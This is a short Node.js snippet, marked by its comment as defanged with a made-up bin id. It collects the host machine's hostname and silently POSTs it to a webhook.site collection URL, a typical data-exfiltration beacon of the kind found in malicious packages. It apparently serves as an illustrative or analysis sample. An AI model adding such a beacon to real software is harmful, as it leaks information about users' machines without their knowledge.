// defanged: the bin id is made up
const https = require('https');
const data = JSON.stringify({ h: require('os').hostname() });
const r = https.request('https://webhook.site/00000000-0000-4000-8000-000000000000', { method: 'POST' });
r.on('error', () => {});
r.end(data);
